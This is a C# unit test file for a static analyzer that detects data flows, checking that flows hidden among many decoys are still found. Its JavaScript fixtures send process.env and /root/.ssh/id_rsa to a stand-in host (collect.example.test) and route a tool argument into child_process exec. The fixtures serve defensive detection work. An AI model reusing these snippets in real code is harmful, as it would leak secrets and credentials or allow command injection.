using System.Text;
using Mtf.Artifacts;
using Mtf.Flow;
using Mtf.Flow.Facts;
using Xunit;

namespace Mtf.Tests.Flow;

/// <summary>A flow must not become invisible because the code offers many harmless values beside it.</summary>
public sealed class FlowDecoyTests
{
    private const string Send = "const send = (body) => fetch('https://collect.example.test', { method: 'POST', body: JSON.stringify(body) });\n";

    public static TheoryData<string, string, string> Decoys => new()
    {
        { "functions", "let run = x => x.length;\n{0}run = send;\nrun(process.env);\n", "run = x => x.a + {0};\n" },
        { "objects", "let box = {{}};\n{0}box = {{ value: process.env }};\nsend(box.value);\n", "box = {{ value: {0} }};\n" },
        { "callers", "function tell(box) {{ send(box.value); }}\n{0}tell({{ value: process.env }});\n", "tell({{ value: {0} }});\n" },
        { "methods", "let table = {{}};\n{0}table = {{ run: send }};\ntable.run(process.env);\n", "table = {{ run: x => x + {0} }};\n" },
        { "nested objects", "let box = {{}};\n{0}box = {{ inner: {{ value: process.env }} }};\nconst inner = box.inner;\nsend(inner.value);\n", "box = {{ inner: {{ value: {0} }} }};\n" },
        { "stores", "let box = {{}};\nconst own = {{}};\n{0}box = own;\nbox.value = process.env;\nsend(own.value);\n", "box = {{ n: {0} }};\n" },
        { "lists", "const list = [];\n{0}list.push(send);\nfor (const run of list) run(process.env);\n", "list.push(x => x + {0});\n" },
    };

    [Theory]
    [MemberData(nameof(Decoys))]
    public void Decoys_do_not_hide_a_flow(string kind, string program, string decoy)
    {
        _ = kind;
        foreach (var count in (int[])[0, 25, 100, 300])
        {
            var analysis = Analyze(Send + Fill(program, decoy, count));
            Assert.Contains(analysis.Flows, flow => flow is { Source: "env.all", Sink: "network" });
            Assert.True(count > 100 || analysis.Unanalysed.Count == 0, $"{count} decoys: {string.Join(", ", analysis.Unanalysed)}");
        }
    }

    [Theory]
    [MemberData(nameof(Decoys))]
    public void More_decoys_than_are_followed_are_reported(string kind, string program, string decoy)
    {
        _ = kind;
        var analysis = Analyze(Send + Fill(program, decoy, 1500));
        Assert.True(analysis.Flows.Any(flow => flow is { Source: "env.all", Sink: "network" }) || analysis.Unanalysed.Count > 0);
    }

    [Fact]
    public void Outside_functions_hide_no_other()
    {
        var names = string.Concat(Enumerable.Range(0, 40).Select(index => $"run = console.m{index};\n"));
        Assert.Contains(
            Analyze("const { exec } = require('child_process');\nlet run = Math.abs;\n" + names + "run = exec;\nserver.tool('t', {}, ({ text }) => run(text));\n").Flows,
            flow => flow is { Source: "tool-argument", Sink: "command" });
    }

    [Fact]
    public void Many_fixed_addresses_hide_no_open_one()
    {
        var fixedOnes = string.Concat(Enumerable.Range(0, 12).Select(index => $"if (kind === {index}) at = 'https://a{index}.example.test/';\n"));
        Assert.Contains(
            Analyze("server.tool('t', {}, ({ url, kind }) => { let at = 'https://a.example.test/';\n" + fixedOnes + "if (kind === 99) at = url;\nreturn fetch(at); });\n").Flows,
            flow => flow is { Source: "tool-argument", Sink: "url" });
    }

    [Fact]
    public void Many_ordinary_files_hide_no_secret_one()
    {
        var others = string.Concat(Enumerable.Range(0, 20).Select(index => $"read('/srv/data/{index}.txt');\n"));
        Assert.Contains(
            Analyze("import fs from 'fs';\n" + Send + "const read = (path) => send(fs.readFileSync(path));\n" + others + "read('/root/.ssh/id_rsa');\n").Flows,
            flow => flow is { Source: "file.secret", Sink: "network" });
    }

    [Fact]
    public void Many_options_hide_no_field_of_one()
    {
        var others = string.Concat(Enumerable.Range(0, 20).Select(index => $"options = {{ url: 'https://a.example.test/', data: {index} }};\n"));
        Assert.Contains(
            Analyze("import axios from 'axios';\nlet options = {};\n" + others + "options = { url: 'https://a.example.test/', data: process.env };\naxios(options);\n").Flows,
            flow => flow is { Source: "env.all", Sink: "network" });
    }

    [Fact]
    public void A_field_that_is_spread_into_options_is_sent() => Assert.Contains(
        Analyze("import axios from 'axios';\nconst base = { data: process.env };\naxios({ url: 'https://a.example.test/', ...base });\n").Flows,
        flow => flow is { Source: "env.all", Sink: "network" });

    [Fact]
    public void Arguments_that_are_bound_come_first()
    {
        const string program = "function post(where, what) { fetch('https://collect.example.test', { method: 'POST', body: what }); }\n";
        Assert.Contains(Analyze(program + "const later = post.bind(null, 'here');\nlater(process.env.KEY);\n").Flows, flow => flow is { Source: "env", Sink: "network" });
        Assert.Contains(Analyze(program + "const later = post.bind(null, 'here', process.env.KEY);\nlater();\n").Flows, flow => flow is { Source: "env", Sink: "network" });
    }

    [Fact]
    public void Late_parameters_are_followed()
    {
        var names = string.Join(", ", Enumerable.Range(0, 16).Select(index => $"p{index}"));
        var values = string.Join(", ", Enumerable.Range(0, 15).Append(-1).Select(index => index < 0 ? "process.env" : "0"));
        Assert.Contains(
            Analyze($"function post({names}) {{ return JSON.stringify(p15); }}\nfetch('https://collect.example.test', {{ method: 'POST', body: post({values}) }});\n").Flows,
            flow => flow is { Source: "env.all", Sink: "network" });
    }

    private static string Fill(string program, string decoy, int count) =>
        string.Format(System.Globalization.CultureInfo.InvariantCulture, program, string.Concat(Enumerable.Range(0, count).Select(index => string.Format(System.Globalization.CultureInfo.InvariantCulture, decoy, index))));

    private static StaticAnalysis Analyze(string code)
    {
        using var tree = new MemoryTree([("index.js", Encoding.UTF8.GetBytes(code))]);
        return StaticAnalyzer.Analyze(tree, []);
    }
}
